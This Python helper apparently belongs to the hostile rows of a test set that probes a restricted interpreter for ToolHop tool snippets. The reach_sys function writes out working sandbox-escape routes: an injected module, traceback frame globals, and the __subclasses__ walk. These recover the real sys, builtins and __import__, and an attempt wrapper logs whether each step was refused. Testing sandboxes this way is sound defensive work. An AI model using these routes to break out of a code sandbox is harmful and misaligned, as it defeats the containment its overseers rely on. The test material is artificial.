# Shared by the hostile rows (sources[0] of each): the routes the review used to get from a ToolHop snippet
# to the interpreter's internals, and a way to record what each attempt did.
def reach_sys():
    """`sys` through an injected module, a traceback frame's globals, or the __subclasses__ walk."""
    try:
        return pytz.sys
    except Exception:
        pass
    try:
        raise ValueError("probe")
    except ValueError as exc:
        try:
            frame = exc.__traceback__.tb_frame
            while frame is not None:
                if "sys" in frame.f_globals:
                    return frame.f_globals["sys"]
                frame = frame.f_back
        except Exception:
            pass
    for cls in ().__class__.__base__.__subclasses__():
        for attr in ("__init__", "find_spec", "create_module", "__enter__"):
            fn = cls.__dict__.get(attr)
            try:
                fn = fn.__func__
            except Exception:
                pass
            try:
                g = fn.__globals__
                g["sys"].modules
                return g["sys"]
            except Exception:
                continue
    raise RuntimeError("no route to sys")


def real_builtins():
    return reach_sys().modules["builtins"].__dict__


def real_import(name):
    return real_builtins()["__import__"](name, None, None, ["_"])


def attempt(fn):
    """'ok: <result>' when the step worked, 'refused: <exception>' when something stopped it."""
    try:
        return "ok: " + str(fn())[:200]
    except Exception as exc:
        return "refused: " + type(exc).__name__ + ": " + str(exc)[:200]
